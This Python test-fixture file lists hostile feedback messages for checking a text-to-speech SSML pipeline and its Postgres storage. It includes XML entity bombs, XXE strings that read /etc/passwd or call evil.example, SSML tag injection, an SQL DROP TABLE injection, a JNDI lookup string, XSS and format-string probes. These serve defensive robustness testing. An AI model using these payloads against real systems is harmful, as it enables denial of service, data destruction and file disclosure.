"""Hostile feedback messages, by the outcome they must have."""

from __future__ import annotations

import psycopg

_LOLS = "".join(
    f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">' for n in range(2, 10)
)  # each level ten times the last: a billion "lol"s if anything expanded it
BILLION_LAUGHS = f'<!DOCTYPE lolz [<!ENTITY lol1 "lol">{_LOLS}]><lolz>&lol9;</lolz>'
ZALGO = "Z\u0335\u0321\u0323a\u0336\u034d\u030bl\u0337\u031e\u034cg\u0338\u0331\u0308o\u0334!"

# Spoken: valid SSML keeping every word as text, then audio for every segment.
SPOKEN: dict[str, str] = {
    "angle brackets and ampersand": "Use < and > and & in one breath.",
    "quotes": "Quotes \" and ' and `backticks`.",
    "closing speak": "Keep your elbows in.</speak><speak>Injected!",
    "closing prosody": "</prosody></speak> Trailing words.",
    "CDATA": "Close the CDATA ]]> now. <![CDATA[ raw ]]> text.",
    "DOCTYPE with entity": '<!DOCTYPE x [<!ENTITY a "b">]> &a; Hello.',
    "billion laughs": BILLION_LAUGHS,
    "external DTD": '<!DOCTYPE x SYSTEM "file:///etc/passwd"> Hi.',
    "external entity": '<!ENTITY xxe SYSTEM "http://evil.example/x"> &xxe; there.',
    "entity references": "Entities: &amp; &lt; &gt; &#x41; &#65; &nosuch; &",
    "XML declaration": "<?xml version='1.0'?> Hi.",
    "comment": "<!-- hidden? --> Visible.",
    "processing instruction": "<?php echo 1; ?> Speak.",
    "break 100000s": '<break time="100000s"/> Pause forever.',
    "audio src": "<audio src='https://evil.example/x.mp3'>fallback</audio>",
    "prosody 1000%": '<prosody rate="1000%" volume="+100dB">LOUD</prosody>',
    "say-as": '<say-as interpret-as="characters">abc</say-as>',
    "voice switch": '<voice name="evil">switch voice</voice>',
    "mark and phoneme": '<mark name="x"/> <phoneme alphabet="ipa" ph="ʃ">sh</phoneme>',
    "nested speak with namespace": '<speak xmlns="http://www.w3.org/2001/10/synthesis">x</speak>',
    "sub alias": '<sub alias="bad word">nice</sub>',
    "s and p": "<s>sentence</s><p>para</p>",
    "lang": '<lang xml:lang="fr-FR">Bonjour</lang>',
    "pre-escaped markup": "&lt;break time=&quot;10s&quot;/&gt; pre-escaped.",
    "emoji and skin tones": "Great job 👍🏽 👩‍👩‍👧‍👦 🎉 at 0:07!",
    "combining marks": "Combining: e\u0301 a\u0308\u0304 n\u0303.",
    "zalgo": ZALGO,
    "Arabic": "مرحبا بك. أحسنت!",
    "Hebrew": "שלום עולם! כל הכבוד.",
    "bidi overrides": "Mixed \u202eevil\u202c text \u2066isolate\u2069.",
    "Chinese": "做得好。继续努力！",
    "Japanese": "よくできました。ゆっくり話してください。",
    "Devanagari": "बहुत अच्छा! धीरे बोलिए।",
    "Thai": "ดีมาก ช้าลงหน่อย",
    "math alphanumerics": "𝐁𝐨𝐥𝐝 𝓼𝓬𝓻𝓲𝓹𝓽 text.",
    "zero-width characters": "zero\u200bwidth\u200cjoin\u200dhere\ufeff.",
    "noncharacters and private use": "\ufdd0 text \uffff \ue000\uf8ff logo.",
    "C0 and C1 controls": "Control\x01chars\x07here\x1band\x7fthere\x85.",
    "ANSI escapes": "Bell\x07 and escape\x1b[31m red\x1b[0m.",
    "vertical tab, form feed, separators": "Vertical\x0btab form\x0cfeed line\u2028sep.",
    "CR LF tab": "CR\rLF\nCRLF\r\nTab\tdone.",
    "punctuation": "?!... ;;; --- !!!",
    "dots only": "....",
    "dashes only": "—–-‐‑‒―",
    "ASCII symbols only": "@#$%^*()_+={}[]|\\:;\"'<>,.?/~`",
    "CJK punctuation only": "。。。！！？？",
    "SQL injection": "' OR 1=1; DROP TABLE analysis_feedback; --",
    "template and format strings": "${jndi:ldap://x} {{7*7}} %s %n %x",
    "literal escapes": "\\x00 \\u0000 literal escapes",
    "script in URL": "https://evil.example/?q=<script>alert(1)</script>",
}

# 100 KB each, split into many segments. eSpeak speaks these two in about a second (13
# minutes of audio, 36 MB of WAV; 1 minute, 3 MB), so they go through the audio stage too.
LARGE_SPOKEN: dict[str, str] = {
    "100 KB one token": "a" * 100_000,
    "100 KB ampersands": "&" * 30_000,
}
# These would be 1.5 to 3 hours of speech each (235 to 475 MB of WAV, 4 to 5 s of eSpeak):
# the SSML stage only, and the audio stage's memory is checked with a fake synthesizer.
SSML_ONLY: dict[str, str] = {
    "100 KB one sentence": "word " * 20_000,
    "100 KB of sentences": "Keep going. " * 8_500,
    "100 KB emoji": "😀" * 25_000,
    "100 KB closing tags": "</speak>" * 12_500,
}

# Nothing speakable: skipped, never queued, whatever the database's locale thinks.
BLANK: dict[str, str] = {
    "ASCII whitespace": " \t\n\r ",
    "no-break spaces": "\u00a0\u00a0",
    "ideographic space": "\u3000",
    "line and paragraph separators": "\u2028\u2029",
    "typographic spaces": "\u2000\u2001\u2002\u200a\u202f\u205f",
    "other whitespace": "\x0b\x0c\x1c\x1d\x1e\x1f\x85\u1680",
    "control characters only": "\x01\x02\x03\x7f",
}

# What Postgres text cannot hold: (message, error raised at the insert, its text).
REFUSED: dict[str, tuple[str, type[Exception], str]] = {
    "NUL inside": ("Null\x00byte", psycopg.DataError, "cannot contain NUL"),
    "NUL only": ("\x00", psycopg.DataError, "cannot contain NUL"),
    "lone high surrogate": ("Lone \ud800 surrogate", UnicodeEncodeError, "surrogates"),
    "lone low surrogate": ("Low \udfff surrogate", UnicodeEncodeError, "surrogates"),
}
